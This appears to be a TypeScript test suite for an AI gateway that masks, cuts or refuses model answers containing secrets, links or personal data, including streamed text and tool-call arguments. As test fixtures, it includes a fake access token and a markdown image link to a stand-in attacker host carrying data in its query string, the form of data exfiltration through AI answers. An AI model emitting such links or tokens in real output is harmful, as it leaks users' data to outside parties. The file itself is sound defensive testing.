import assert from 'node:assert/strict'
import { describe, test, type TestContext } from 'node:test'
import Anthropic from '@anthropic-ai/sdk'
import OpenAI, { APIError } from 'openai'
import { readEvent } from '#ledger/read-event.ts'
import type { OutcomeEvent } from '#ledger/event.ts'
import { openStore } from '#store/sqlite/open.ts'
import { join } from 'node:path'
import {
  ask,
  chat,
  cloudConfig,
  errorOf,
  testGateway,
  type TestGateway,
} from './support/gateway.ts'
import { ANSWER, frame, json, startUpstream, type Act } from './support/upstream.ts'

const TOKEN = ['glpat', 'q7Zr2mK9xVb4Tn8LpW3c'].join('-')
const PIXEL = '![x](https://attacker.test/p.png?d=abc)'
const PROSE = 'Le ciel était clair et la mer restait calme ce soir. '.repeat(40)

const rule = (says: string): string => `policy:
  rules:
    - {id: let-out, match: {classes: [public, internal]}, allow: {zones: [device, on-prem, managed]}}
    - {id: answers-are-read, match: {}, ${says}}`

/** Answers with this text, in pieces of this many units where a stream is asked for. */
const saying =
  (text: string, size = 3): Act =>
  (response, { body }) => {
    if (!body.includes('"stream":true')) {
      const [choice] = ANSWER.choices
      return json(response, 200, {
        ...ANSWER,
        choices: [{ ...choice, message: { role: 'assistant', content: text } }],
      })
    }
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    response.write(frame({ role: 'assistant', content: '' }))
    for (let at = 0; at < text.length; at += size)
      response.write(frame({ content: text.slice(at, at + size) }))
    response.write(frame({}, 'stop'))
    response.end('data: [DONE]\n\n')
  }

const calling =
  (json_: string): Act =>
  (response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    response.write(
      frame({
        role: 'assistant',
        tool_calls: [
          { index: 0, id: 'call_1', type: 'function', function: { name: 'send', arguments: '' } },
        ],
      }),
    )
    for (let at = 0; at < json_.length; at += 4)
      response.write(
        frame({ tool_calls: [{ index: 0, function: { arguments: json_.slice(at, at + 4) } }] }),
      )
    response.write(frame({}, 'tool_calls'))
    response.end('data: [DONE]\n\n')
  }

async function house(t: TestContext, says: string, act: Act) {
  const upstream = await startUpstream(t, act)
  const gateway = await testGateway(t, cloudConfig(upstream.url, rule(says)))
  const openai = new OpenAI({ baseURL: `${gateway.url}/v1`, apiKey: gateway.key, maxRetries: 0 })
  const anthropic = new Anthropic({ baseURL: gateway.url, apiKey: gateway.key, maxRetries: 0 })
  return { upstream, gateway, openai, anthropic }
}

const QUESTION = {
  model: 'auto',
  messages: [{ role: 'user' as const, content: 'Bonjour, un poème ?' }],
}

async function streamedText(openai: OpenAI, language = 'en') {
  const stream = await openai.chat.completions.create(
    { ...QUESTION, stream: true },
    { headers: { 'accept-language': language } },
  )
  const read = { text: '', finish: '' }
  for await (const { choices } of stream) {
    read.text += choices[0]?.delta.content ?? ''
    read.finish = choices[0]?.finish_reason ?? read.finish
  }
  return read
}

async function wholeText(openai: OpenAI, language = 'en') {
  const { choices } = await openai.chat.completions.create(QUESTION, {
    headers: { 'accept-language': language },
  })
  return { text: choices[0]?.message.content ?? '', finish: choices[0]?.finish_reason ?? '' }
}

async function outcomes(gateway: TestGateway): Promise<OutcomeEvent[]> {
  await gateway.stop()
  const opened = openStore({ path: join(gateway.home, 'ecluse.db'), readOnly: true })
  assert.ok(opened.ok)
  const found: OutcomeEvent[] = []
  for (const { writer } of await opened.value.ledger.heads()) {
    for await (const { record } of opened.value.ledger.walk(writer, 1)) {
      const event = record && readEvent(record.payload)
      if (event?.type === 'outcome') found.push(event)
    }
  }
  await opened.value.close()
  return found
}

describe('answers that a rule has looked through', () => {
  test('are masked, the same whole and streamed, in the language of the caller', async (t) => {
    const { openai, gateway } = await house(
      t,
      'answers: {secrets: mask, links: mask}',
      saying(`${PROSE}${TOKEN} et ${PIXEL}. ${PROSE}`),
    )
    const expected = {
      text: `${PROSE}[SECRET removed] et [LINK removed]. ${PROSE}`,
      finish: 'stop',
    }
    assert.deepEqual(await wholeText(openai), expected)
    assert.deepEqual(await streamedText(openai), expected)
    assert.match((await wholeText(openai, 'fr')).text, /\[SECRET retiré\] et \[LIEN retiré\]/)
    const answer = await chat(gateway, { body: ask('Bonjour') })
    assert.equal(answer.headers.get('x-ecluse-answer'), 'secrets=1 links=1;mask')
    for (const { answerFound, answerDone } of await outcomes(gateway))
      assert.deepEqual([answerFound, answerDone], [{ secrets: 1, links: 1 }, 'mask'])
  })

  test('end where they are cut, as filtered', async (t) => {
    const { openai, anthropic } = await house(
      t,
      'answers: {secrets: cut}',
      saying(`${PROSE}${TOKEN} ${PROSE}`),
    )
    const whole = await wholeText(openai)
    assert.equal(whole.finish, 'content_filter')
    assert.ok(
      whole.text.startsWith(
        `${PROSE}\n\n[The rest of this answer was taken out: it held a secret.]`,
      ),
    )
    assert.deepEqual(await streamedText(openai), whole)
    const message = await anthropic.messages
      .stream({ model: 'auto', max_tokens: 10, messages: QUESTION.messages })
      .finalMessage()
    assert.deepEqual(
      message.content.map((block) => (block.type === 'text' ? block.text : '')),
      [whole.text],
    )
  })

  test('are refused with the rule and the kind, never shown further', async (t) => {
    const { openai, anthropic, upstream, gateway } = await house(
      t,
      'answers: {secrets: refuse}',
      saying(`${PROSE}${TOKEN} ${PROSE}`),
    )
    const refused = await openai.chat.completions.create(QUESTION).catch((error: unknown) => error)
    assert.ok(refused instanceof APIError)
    assert.deepEqual([refused.status, refused.code], [403, 'answer-withheld'])
    assert.match(refused.message, /`answers-are-read` \(found: secrets; decision [\da-f-]{36}\)/)
    assert.equal(upstream.seen.length, 1, 'no other answer is asked for')
    let shown = ''
    const broken = await (async () => {
      const stream = await openai.chat.completions.create({ ...QUESTION, stream: true })
      for await (const { choices } of stream) shown += choices[0]?.delta.content ?? ''
    })().catch((error: unknown) => error)
    assert.ok(broken instanceof APIError)
    assert.equal(shown, PROSE)
    const other = await anthropic.messages
      .create({ model: 'auto', max_tokens: 10, messages: QUESTION.messages })
      .catch((error: unknown) => error)
    assert.ok(other instanceof Anthropic.APIError)
    assert.equal(other.status, 403)
    assert.deepEqual(
      (await outcomes(gateway)).map(({ code, answerDone }) => [code, answerDone]),
      Array.from({ length: 3 }, () => ['answer-withheld', 'refuse']),
    )
  })

  test('keep the JSON of their tool calls', async (t) => {
    const { openai, anthropic } = await house(
      t,
      'answers: {secrets: mask}',
      calling(`{"to": "a\\nb", "what": "jeton ${TOKEN}"}`),
    )
    const tools = [
      {
        type: 'function' as const,
        function: { name: 'send', parameters: { type: 'object', properties: {} } },
      },
    ]
    const stream = openai.chat.completions.stream({ ...QUESTION, tools })
    const { choices } = await stream.finalChatCompletion()
    const [call] = choices[0]?.message.tool_calls ?? []
    assert.deepEqual(JSON.parse(call?.type === 'function' ? call.function.arguments : ''), {
      to: 'a\nb',
      what: 'jeton [SECRET removed]',
    })
    const message = await anthropic.messages
      .stream({
        model: 'auto',
        max_tokens: 10,
        messages: QUESTION.messages,
        tools: [{ name: 'send', input_schema: { type: 'object' } }],
      })
      .finalMessage()
    const [block] = message.content
    assert.deepEqual(block?.type === 'tool_use' ? block.input : null, {
      to: 'a\nb',
      what: 'jeton [SECRET removed]',
    })
  })

  test('may say what the question said, its history and the results of tools', async (t) => {
    const { openai } = await house(
      t,
      'answers: {personal: mask}',
      saying('Écrire à jean.dupont@acme.fr ou à paul.durand@acme.fr.'),
    )
    const { choices } = await openai.chat.completions.create({
      model: 'auto',
      messages: [
        { role: 'system', content: 'Contact : Jean.Dupont@acme.fr' },
        { role: 'user', content: 'À qui écrire ?' },
      ],
    })
    assert.equal(
      choices[0]?.message.content,
      'Écrire à jean.dupont@acme.fr ou à [PERSONAL DATA removed].',
    )
  })

  test('are only counted where everything passes, and stay byte for byte', async (t) => {
    const { gateway } = await house(t, 'answers: {secrets: pass}', (response, seen) => {
      if (seen.body.includes('"stream":true')) return saying(`${TOKEN} ${PROSE}`)(response, seen)
      json(response, 200, {
        ...ANSWER,
        later_field: { kept: [1, null] },
        choices: [
          { index: 0, message: { role: 'assistant', content: TOKEN }, finish_reason: 'stop' },
        ],
      })
    })
    const whole = await chat(gateway, { body: ask('Bonjour') })
    assert.equal(whole.headers.get('x-ecluse-answer'), 'secrets=1;pass')
    assert.deepEqual(((await whole.json()) as { later_field?: unknown }).later_field, {
      kept: [1, null],
    })
    const streamed = await chat(gateway, { body: ask('Bonjour', { stream: true }) })
    assert.equal(streamed.headers.get('x-ecluse-answer'), null)
    assert.ok((await streamed.text()).length > 0)
    assert.deepEqual(
      (await outcomes(gateway)).map(({ answerFound, answerDone }) => [answerFound, answerDone]),
      [
        [{ secrets: 1 }, 'pass'],
        [{ secrets: 1 }, 'pass'],
      ],
    )
  })

  test('are looked through each on its own where several are asked for', async (t) => {
    const choice = (index: number, content: string): object => ({
      index,
      message: { role: 'assistant', content },
      logprobs: { content: [{ token: content, logprob: -0.5, top_logprobs: [] }] },
      finish_reason: 'stop',
    })
    const { gateway, upstream } = await house(t, 'answers: {secrets: mask}', (response) => {
      const choices = [choice(0, 'Rien ici.'), choice(1, `Le jeton : ${TOKEN}.`)]
      return json(response, 200, { ...ANSWER, choices })
    })
    const body = ask('Bonjour', { n: 2, logprobs: true, top_logprobs: 2 })
    const answer = await chat(gateway, { body })
    assert.equal(answer.status, 200)
    assert.equal(answer.headers.get('x-ecluse-answer'), 'secrets=1;mask')
    assert.match(answer.headers.get('x-ecluse-dropped') ?? '', /logprobs, top_logprobs/)
    const text = await answer.text()
    assert.doesNotMatch(text, new RegExp(TOKEN))
    const { choices } = JSON.parse(text) as {
      choices: { index: number; message: { content: string } }[]
    }
    assert.deepEqual(
      choices.map(({ index, message }) => [index, message.content]),
      [
        [0, 'Rien ici.'],
        [1, 'Le jeton : [SECRET removed].'],
      ],
    )
    assert.match(upstream.seen[0]?.body ?? '', /"n":2/)
  })

  test('that wait for a person cannot be several, and the refusal says so', async (t) => {
    const { gateway, upstream } = await house(t, 'duties: [review]', saying('x'))
    const refused = await chat(gateway, { body: ask('Bonjour', { n: 2 }) })
    assert.equal(refused.status, 400)
    const error = await errorOf(refused)
    assert.deepEqual([error.code, error.param], ['answer-not-guarded', 'n'])
    assert.match(error.message, /as the rule `answers-are-read` asks: `n`/)
    assert.equal(upstream.seen.length, 0)
  })

  test('say that a machine wrote them where that is a duty', async (t) => {
    const { gateway } = await house(t, 'duties: [disclose]', saying('x'))
    for (const stream of [false, true]) {
      const answer = await chat(gateway, { body: ask('Bonjour', { stream }) })
      assert.equal(answer.headers.get('x-ecluse-ai-generated'), 'true')
      await answer.text()
    }
  })

  test('holds for what a destination says of its own error: with a finding our words stand alone', async (t) => {
    const says =
      (message: string, param: string | null = null): Act =>
      (response) =>
        json(response, 400, { error: { message, type: 'bad', param, code: null } })
    const refusal = async (act: Act, rules = 'answers: {secrets: mask, links: cut}') => {
      const { gateway } = await house(t, rules, act)
      const answer = await chat(gateway, { body: ask('Bonjour') })
      assert.equal(answer.status, 400)
      return answer.text()
    }
    const plain = await refusal(says('the context is too long', 'messages'))
    assert.match(plain, /the context is too long/)
    for (const act of [says(`no such key: ${TOKEN}`), says('bad', TOKEN), says(`see ${PIXEL}`)]) {
      const told = await refusal(act)
      assert.match(told, /destination-refused/)
      assert.ok(!told.includes(TOKEN) && !told.includes('attacker'))
    }
    assert.ok(!(await refusal(says('unread'), 'duties: [review]')).includes('unread'))
    assert.match(await refusal(says(TOKEN), 'answers: {secrets: pass}'), new RegExp(TOKEN))
  })
})
